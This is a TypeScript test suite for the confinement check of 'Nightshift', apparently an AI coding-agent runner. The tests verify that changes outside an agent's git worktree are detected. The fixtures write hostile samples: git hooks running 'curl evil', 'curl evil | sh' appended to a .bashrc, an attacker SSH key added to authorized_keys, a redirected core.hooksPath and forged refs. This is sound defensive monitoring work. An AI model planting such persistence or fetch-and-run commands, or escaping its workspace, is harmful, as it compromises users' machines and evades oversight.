import { chmodSync, mkdirSync, mkdtempSync, realpathSync, renameSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { findConfinementBreaches, worktreeUnchanged, type ConfinementBreach } from '../../domain/confinement-breach.js';
import type { OutsideSnapshotRequest, Workspace } from '../../ports/workspace.js';
import { createGitFixture, type GitFixture } from '../git-fixture.js';

const AUTHOR = { name: 'Nightshift Bot', email: 'nightshift@example.test' };

/**
 * The part of the Workspace contract that proves confinement: whatever changes outside a
 * worktree between two `snapshotOutside` calls is seen, and nothing Nightshift itself does
 * meanwhile (commits, diffs, other tickets' worktrees, the tracker's files) is mistaken for it.
 */
export function describeOutsideSnapshotContract(createWorkspace: (location: { repositoryRoot: string; worktreesDirectory: string }) => Workspace): void {
  describe('outside snapshot (confinement)', () => {
    let fixture: GitFixture;
    let workspace: Workspace;
    let worktreesDirectory: string;
    let watched: string;
    let worktree: string;
    let request: OutsideSnapshotRequest;

    beforeEach(async () => {
      fixture = createGitFixture({ files: { 'README.md': '# Demo\n', 'src/a.ts': 'export const a = 1;\n', 'tickets/PROJ-1.md': 'ticket\n' } });
      worktreesDirectory = join(fixture.root, '.nightshift', 'worktrees');
      watched = realpathSync(mkdtempSync(join(tmpdir(), 'nightshift-watched-home-')));
      mkdirSync(join(watched, '.ssh'));
      writeFileSync(join(watched, '.ssh', 'id_rsa'), 'fake key\n');
      writeFileSync(join(watched, '.bashrc'), 'export PS1=x\n');
      workspace = createWorkspace({ repositoryRoot: fixture.root, worktreesDirectory });
      worktree = (await workspace.prepareWorktree({ branch: 'agent/PROJ-1', startPoint: 'main', directoryName: 'PROJ-1' })).path;
      request = {
        branch: 'agent/PROJ-1',
        concurrentBranchPrefix: 'agent/',
        watchedPaths: [join(watched, '.ssh'), join(watched, '.bashrc')],
        unwatchedCheckoutPaths: ['tickets'],
        unwatchedRefs: ['refs/notes/nightshift', 'refs/stash'],
      };
    });
    afterEach(() => {
      fixture.cleanup();
      rmSync(watched, { recursive: true, force: true });
    });

    const breachesAround = async (change: () => void | Promise<void>, access: 'read-only' | 'edit-worktree' = 'edit-worktree'): Promise<ConfinementBreach[]> => {
      const before = await workspace.snapshotOutside(worktree, request);
      await change();
      return findConfinementBreaches(before, await workspace.snapshotOutside(worktree, request), access);
    };
    const locations = (breaches: ConfinementBreach[]): string[] => breaches.map((breach) => (breach.kind === 'changed-outside' ? `${breach.change} ${breach.location}` : breach.kind));

    it('gives a new worktree the snapshot asked for, equal to one taken right after, and none to a reopened one', async () => {
      const asked = { ...request, branch: 'agent/PROJ-2', symlinks: 'tracked' as const, fingerprintWorktree: true };
      const prepared = await workspace.prepareWorktree({ branch: 'agent/PROJ-2', startPoint: 'main', directoryName: 'PROJ-2', snapshot: asked });
      expect(prepared.created).toBe(true);
      expect(prepared.outsideSnapshot).toStrictEqual(await workspace.snapshotOutside(prepared.path, asked));
      // An agent that then writes a hook is seen against it, as against any other snapshot.
      writeFileSync(join(fixture.root, '.git', 'hooks', 'pre-commit'), '#!/bin/sh\n');
      const breaches = findConfinementBreaches(prepared.outsideSnapshot as NonNullable<typeof prepared.outsideSnapshot>, await workspace.snapshotOutside(prepared.path, asked), 'read-only');
      expect(locations(breaches)).toEqual([`added ${join(fixture.root, '.git', 'hooks', 'pre-commit')}`]);
      const reopened = await workspace.prepareWorktree({ branch: 'agent/PROJ-2', startPoint: 'main', directoryName: 'PROJ-2', snapshot: asked });
      expect(reopened.created).toBe(false);
      expect(reopened.outsideSnapshot).toBeUndefined();
    });

    it('sees nothing when the agent works inside its worktree, and nothing of what Nightshift does meanwhile', async () => {
      const breaches = await breachesAround(async () => {
        writeFileSync(join(worktree, 'src/a.ts'), 'export const a = 2;\n');
        writeFileSync(join(worktree, 'src/b.ts'), 'export const b = 1;\n');
        await workspace.changedFiles(worktree, 'main');
        await workspace.diff(worktree, 'main');
        await workspace.commitAll(worktree, 'feat(PROJ-1): work', AUTHOR);
        const other = await workspace.prepareWorktree({ branch: 'agent/PROJ-2', startPoint: 'main', directoryName: 'PROJ-2' });
        writeFileSync(join(other.path, 'other.ts'), 'x\n');
        await workspace.commitAll(other.path, 'feat(PROJ-2): other', AUTHOR);
        await workspace.removeWorktree(other.path);
        fixture.writeFile('tickets/PROJ-1.md', 'status: in-review\n');
        fixture.writeFile('tickets/PROJ-3.md', 'follow-up\n');
        await workspace.addNote({ commit: fixture.git(['rev-parse', 'main']), ref: 'refs/notes/nightshift', text: 'Quality score: 90', author: AUTHOR });
        const third = await workspace.prepareWorktree({ branch: 'agent/PROJ-4', startPoint: 'main', directoryName: 'PROJ-4' });
        writeFileSync(join(third.path, 'left.ts'), 'x\n');
        await workspace.setAsideUncommittedChanges(third.path, 'nightshift: left by an earlier run');
      });
      expect(breaches).toEqual([]);
    });

    it('still sees any other ref change, a note under another ref included', async () => {
      const breaches = await breachesAround(() => {
        fixture.git(['tag', 'planted', 'main']);
        fixture.git(['notes', '--ref=refs/notes/other', 'add', '-m', 'x', 'main']);
      });
      expect(locations(breaches)).toEqual(['added ref refs/notes/other', 'added ref refs/tags/planted']);
    });

    it('reports the snapshot of the worktree itself: its real path and its own branch', async () => {
      const snapshot = await workspace.snapshotOutside(worktree, request);
      expect(snapshot.worktreeRealPath).toBe(realpathSync(worktree));
      expect(snapshot.ownBranchCommit).toBe(fixture.git(['rev-parse', 'agent/PROJ-1']));
      expect(Object.keys(snapshot.fingerprints).some((location) => location.includes('agent/PROJ-1'))).toBe(false);
    });

    it('sees hooks, config and info/exclude of the repository change', async () => {
      const gitDirectory = join(fixture.root, '.git');
      const breaches = await breachesAround(() => {
        writeFileSync(join(gitDirectory, 'hooks', 'post-commit'), '#!/bin/sh\ncurl evil\n');
        chmodSync(join(gitDirectory, 'hooks', 'post-commit'), 0o755);
        fixture.git(['config', 'core.hooksPath', '/tmp/evil-hooks'], worktree);
        writeFileSync(join(gitDirectory, 'info', 'exclude'), '*\n');
      });
      expect(locations(breaches)).toEqual([`modified ${join(gitDirectory, 'config')}`, `added ${join(gitDirectory, 'hooks', 'post-commit')}`, `modified ${join(gitDirectory, 'info', 'exclude')}`]);
    });

    it('lets an inert sample hook be edited, but sees one renamed to life', async () => {
      const hooks = join(fixture.root, '.git', 'hooks');
      writeFileSync(join(hooks, 'pre-push.sample'), '#!/bin/sh\nexit 0\n');
      expect(await breachesAround(() => writeFileSync(join(hooks, 'pre-push.sample'), '#!/bin/sh\ncurl evil\n'))).toEqual([]);
      const breaches = await breachesAround(() => renameSync(join(hooks, 'pre-push.sample'), join(hooks, 'pre-push')));
      expect(locations(breaches)).toEqual([`added ${join(hooks, 'pre-push')}`, `removed ${join(hooks, 'pre-push.sample')}`]);
    });

    it('sees refs other than the tickets’ branches move, and its own branch apart', async () => {
      const breaches = await breachesAround(() => {
        fixture.git(['branch', 'sneaky', 'main'], worktree);
        fixture.git(['tag', 'v9', 'main'], worktree);
        fixture.git(['branch', 'agent/PROJ-9', 'main'], worktree);
        fixture.git(['commit', '--allow-empty', '-qm', 'agent committed at C0'], worktree);
      }, 'read-only');
      expect(locations(breaches)).toEqual(['added ref refs/heads/sneaky', 'added ref refs/tags/v9', 'own-branch-moved']);
    });

    it('sees the main branch move and the worktree switch branch or repository', async () => {
      const breaches = await breachesAround(() => {
        fixture.git(['checkout', '-q', '-b', 'elsewhere'], worktree);
        fixture.git(['commit', '--allow-empty', '-qm', 'x'], worktree);
        fixture.git(['update-ref', 'refs/heads/main', 'HEAD'], worktree);
      });
      const found = locations(breaches);
      expect(found).toContain('added ref refs/heads/elsewhere');
      expect(found).toContain('modified ref refs/heads/main');
      expect(found.some((location) => /modified .*worktrees\/PROJ-1\/HEAD$/.test(location))).toBe(true);
      const relinked = await breachesAround(() => writeFileSync(join(worktree, '.git'), `gitdir: ${join(fixture.root, '.git')}\n`));
      expect(locations(relinked)).toContain(`modified ${join(worktree, '.git')}`);
    });

    it('sees files written next to the worktree, in the main checkout and in the watched paths', async () => {
      const breaches = await breachesAround(() => {
        writeFileSync(join(worktree, '..', 'outside.txt'), 'escaped\n');
        mkdirSync(join(worktree, '..', 'evil'));
        writeFileSync(join(worktree, '..', 'evil', 'x.txt'), 'escaped\n');
        fixture.writeFile('escaped.txt', 'escaped\n');
        fixture.writeFile('src/a.ts', 'export const a = 666;\n');
        writeFileSync(join(watched, '.bashrc'), 'curl evil | sh\n');
        writeFileSync(join(watched, '.ssh', 'authorized_keys'), 'ssh-ed25519 AAAA attacker\n');
      });
      expect(locations(breaches).sort()).toEqual([
        `added ${join(worktreesDirectory, 'evil', 'x.txt')}`,
        `added ${join(worktreesDirectory, 'outside.txt')}`,
        `added ${join(fixture.root, 'escaped.txt')}`,
        `modified ${join(fixture.root, 'src', 'a.ts')}`,
        `modified ${join(watched, '.bashrc')}`,
        `added ${join(watched, '.ssh', 'authorized_keys')}`,
      ].sort());
    });

    it('lists the symbolic links inside the worktree with the real path they lead to', async () => {
      symlinkSync(join(watched, '.ssh'), join(worktree, 'keys'));
      symlinkSync('src/a.ts', join(worktree, 'alias.ts'));
      symlinkSync(join(watched, 'not-there-yet'), join(worktree, 'dangling'));
      const snapshot = await workspace.snapshotOutside(worktree, request);
      expect(snapshot.symlinks).toEqual({ keys: join(watched, '.ssh'), 'alias.ts': join(realpathSync(worktree), 'src', 'a.ts'), dangling: join(watched, 'not-there-yet') });
    });

    it('lists only tracked symbolic links when asked, without the untracked ones', async () => {
      symlinkSync('src/a.ts', join(worktree, 'tracked-alias.ts'));
      await workspace.commitAll(worktree, 'feat(PROJ-1): a link', AUTHOR);
      symlinkSync(join(watched, '.ssh'), join(worktree, 'keys'));
      const tracked = await workspace.snapshotOutside(worktree, { ...request, symlinks: 'tracked' });
      expect(tracked.symlinks).toEqual({ 'tracked-alias.ts': join(realpathSync(worktree), 'src', 'a.ts') });
      const all = await workspace.snapshotOutside(worktree, { ...request, symlinks: 'all' });
      expect(all.symlinks).toEqual({ 'tracked-alias.ts': join(realpathSync(worktree), 'src', 'a.ts'), keys: join(watched, '.ssh') });
      expect(findConfinementBreaches(tracked, all, 'edit-worktree').map((breach) => breach.kind)).toEqual(['symlink-outside']);
    });

    it('fingerprints the worktree itself when asked: equal while nothing in it changes, different after any write', async () => {
      const fingerprinted = { ...request, fingerprintWorktree: true };
      const first = await workspace.snapshotOutside(worktree, fingerprinted);
      expect(first.worktreeFingerprint).toMatch(/^[0-9a-f]{64}$/);
      fixture.git(['status', '--porcelain'], worktree);
      await workspace.diff(worktree, 'main');
      const second = await workspace.snapshotOutside(worktree, fingerprinted);
      expect(worktreeUnchanged(first, second)).toBe(true);
      mkdirSync(join(worktree, 'deep', 'er'), { recursive: true });
      const third = await workspace.snapshotOutside(worktree, fingerprinted);
      expect(worktreeUnchanged(second, third)).toBe(false);
      writeFileSync(join(worktree, 'deep', 'er', 'x.txt'), 'x\n');
      const fourth = await workspace.snapshotOutside(worktree, fingerprinted);
      expect(worktreeUnchanged(third, fourth)).toBe(false);
      writeFileSync(join(worktree, 'src', 'a.ts'), 'export const a = 1;\n');
      expect(worktreeUnchanged(fourth, await workspace.snapshotOutside(worktree, fingerprinted))).toBe(false);
      expect((await workspace.snapshotOutside(worktree, request)).worktreeFingerprint).toBeUndefined();
    });

    it('sees a file staged in the main checkout, an untracked file changed there, and a packed ref rewritten', async () => {
      fixture.writeFile('notes.local', 'mine\n');
      fixture.git(['pack-refs', '--all']);
      const breaches = await breachesAround(() => {
        fixture.writeFile('README.md', '# Staged by an agent\n');
        fixture.git(['add', 'README.md']);
        fixture.writeFile('notes.local', 'changed by an agent\n');
        fixture.git(['update-ref', 'refs/heads/main', fixture.git(['commit-tree', '-m', 'forged', 'main^{tree}'])]);
      });
      expect(locations(breaches)).toEqual([`modified ${join(fixture.root, 'README.md')}`, `modified ${join(fixture.root, 'notes.local')}`, 'modified ref refs/heads/main']);
    });

    it('refuses a worktree path outside the worktrees directory', async () => {
      await expect(workspace.snapshotOutside(fixture.root, request)).rejects.toThrow(/outside/);
    });
  });
}
